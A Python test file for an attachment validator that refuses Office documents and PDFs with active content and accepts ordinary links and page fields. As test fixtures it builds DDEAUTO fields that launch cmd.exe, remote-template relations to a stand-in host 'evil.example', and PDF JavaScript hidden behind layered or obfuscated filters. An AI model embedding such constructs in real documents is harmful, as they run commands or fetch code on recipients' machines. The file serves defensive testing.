"""Evidence that runs, embeds or fetches something is refused however it is written; what offices send is not."""

import base64
import zlib

import pytest

from tests.attachments import files
from tests.attachments.test_contents import look, refused

RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def related(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    """A DOCX with one more relation, of its settings."""
    relation = (
        b'<Relationship Id="r1" Type="' + OFFICE + kind + b'" Target="' + target + b'" TargetMode="' + mode + b'"/>'
    )
    return files.with_parts(files.word(), {"word/_rels/settings.xml.rels": RELS % relation})


def field(*runs: bytes, part: str = "word/header9.xml") -> bytes:
    """A DOCX with a field whose instruction stands in several runs."""
    said = b"".join(b"<w:r><w:instrText>" + run + b"</w:instrText></w:r>" for run in runs)
    begin, end = (b'<w:r><w:fldChar w:fldCharType="' + kind + b'"/></w:r>' for kind in (b"begin", b"end"))
    return files.with_parts(files.word(), {part: WORD % (b"<w:p>" + begin + said + end + b"</w:p>")})


def utf16(document: bytes, part: str) -> bytes:
    """The same with one part in another encoding, as XML allows."""
    return files.with_parts(document, {part: files.part_of(document, part).decode().encode("utf-16")})


@pytest.mark.parametrize(
    ("content", "name", "found"),
    [
        (files.with_parts(files.word(), {"word/embeddings/oleObject1.bin": b"x"}), "a.docx", "oleObject1.bin"),
        (files.with_parts(files.sheet(), {"xl/Embeddings/a.xlsx": b"x"}), "a.xlsx", "Embeddings"),
        (files.with_parts(files.sheet(), {"xl/externalLinks/externalLink1.xml": b"<x/>"}), "a.xlsx", "externalLink"),
        (files.with_parts(files.sheet(), {"xl/connections.xml": b"<x/>"}), "a.xlsx", "connections"),
        (files.with_parts(files.word(), {"customUI/customUI.xml": b"<x/>"}), "a.docx", "customUI"),
        (related(b"attachedTemplate", b"http://evil.example/x.dotm"), "a.docx", "evil.example"),
        (related(b"attachedTemplate", b"http://evil.example/x.dotm", b"external"), "a.docx", "attachedTemplate"),
        (related(b"image", b"\\\\evil\\share\\a.png"), "a.docx", "image"),
        (related(b"oleObject", b"media/a.bin", b"Internal"), "a.docx", "oleObject"),
        (related(b"aFChunk", b"media/a.html", b"Internal"), "a.docx", "aFChunk"),
        (utf16(related(b"frame", b"http://evil.example"), "word/_rels/settings.xml.rels"), "a.docx", "frame"),
        (field(b' DDEAUTO c:\\\\cmd.exe "/k calc"'), "a.docx", "DDEAUTO"),
        (field(b"DD", b"E c:\\\\cmd.exe"), "a.docx", "DDE"),
        (utf16(field(b" dde x y"), "word/header9.xml"), "a.docx", "dde"),
        (field(b"QUOTE 68 68 69"), "a.docx", "QUOTE"),
        (
            files.with_parts(
                files.word(), {"word/footer8.xml": WORD % b'<w:fldSimple w:instr="INCLUDETEXT c:\\\\a"/>'}
            ),
            "a.docx",
            "INCLUDETEXT",
        ),
        (files.with_parts(files.word(), {"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), "a.docx", "DOCTYPE"),
        (files.open_document(more={"styles.xml": b"<office:x><text:dde-connection-decl/></office:x>"}), "a.odt", "dde"),
        (files.open_document(more={"styles.xml": b"<text:section-source xlink:href='http://e'/>"}), "a.odt", "section"),
        (files.open_document(more={"Object 1/content.xml": b"<script:event-listener/>"}), "a.odt", "event-listener"),
    ],
)
def test_office_documents_that_embed_or_fetch(content: bytes, name: str, found: str) -> None:
    fault = refused(content, name)
    assert fault.code == "active_content_refused"
    assert found in str(fault.detail)


@pytest.mark.parametrize(
    "content",
    [
        related(b"hyperlink", b"https://nghean.gov.vn/link"),
        field(b' HYPERLINK "https://nghean.gov.vn/dde link database" '),
        field(b" PAGE  \\* MERGEFORMAT "),
        field(b' TOC \\o "1-3" '),
        field(b' INCLUDEPICTURE "https://nghean.gov.vn/a.png" '),
        files.word("Đề nghị LINK và DDE trong câu văn"),
    ],
)
def test_links_and_page_numbers_are_taken(content: bytes) -> None:
    assert look(content, "a.docx").kind.title == "DOCX"


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (
            files.pdf_with_objects(
                base64.a85encode(zlib.compress(files.SCRIPT)), b"/Filter [/ASCII85Decode /FlateDecode]"
            ),
            "ASCII85",
        ),
        (files.pdf_with_objects(files.SCRIPT.hex().encode(), b"/Filter/ASCIIHexDecode"), "ASCIIHex"),
        (files.pdf_with_objects(b"\x80\x0b\x60", b"/Filter /LZWDecode"), "LZWDecode"),
        (files.pdf_with_objects(b"\x07/S /Java\x05Script", b"/F#69lter /RunLengthDecode"), "RunLengthDecode"),
        (
            files.pdf_with_objects(zlib.compress(zlib.compress(files.SCRIPT)), b"/Filter[/FlateDecode/FlateDecode]"),
            "Flate",
        ),
        (files.pdf_with_objects(zlib.compress(files.SCRIPT), b"/Filter 7 0 R"), "7"),
        (files.pdf_with_objects(zlib.compress(files.SCRIPT), b""), "ObjStm"),
        (files.pdf_with_objects(b"\x00broken"), "ObjStm"),
        (files.pdf_with_objects(zlib.compress(b"1 0 " + bytes(9_000_000))), "ObjStm"),
        (
            files.pdf_with_objects(zlib.compress(files.SCRIPT), between=b"/DecodeParms <</Predictor 12 /Columns 4>>"),
            "Flate",
        ),
        (files.pdf_with_objects(zlib.compress(files.SCRIPT), between=b"/X (" + b"x" * 30_000 + b")"), "/JavaScript"),
        (files.pdf_with_objects(zlib.compress(b"1 0 << /Type /EmbeddedFile >>")), "/EmbeddedFile"),
        (files.pdf(extra=b"/Names << /EmbeddedFiles << >> >>"), "/EmbeddedFiles"),
        (files.pdf(extra=b"/A << /S /Rich#4dedia >>"), "/RichMedia"),
    ],
)
def test_pdfs_that_run_embed_or_hide(content: bytes, found: str) -> None:
    fault = refused(content, "a.pdf")
    assert fault.code == "active_content_refused"
    assert found in str(fault.detail)


@pytest.mark.parametrize(
    "content",
    [
        files.pdf_with_objects(zlib.compress(b"1 0 << /Type /Page >>")),
        files.pdf_with_objects(b"1 0 << /Type /Page >>", b""),
        files.pdf_with_objects(zlib.compress(b"12 0 13 40 << >> << >>"), b"/Filter [/FlateDecode]"),
    ],
)
def test_object_streams_as_programs_write_them_are_taken(content: bytes) -> None:
    assert look(content, "a.pdf").kind.title == "PDF"
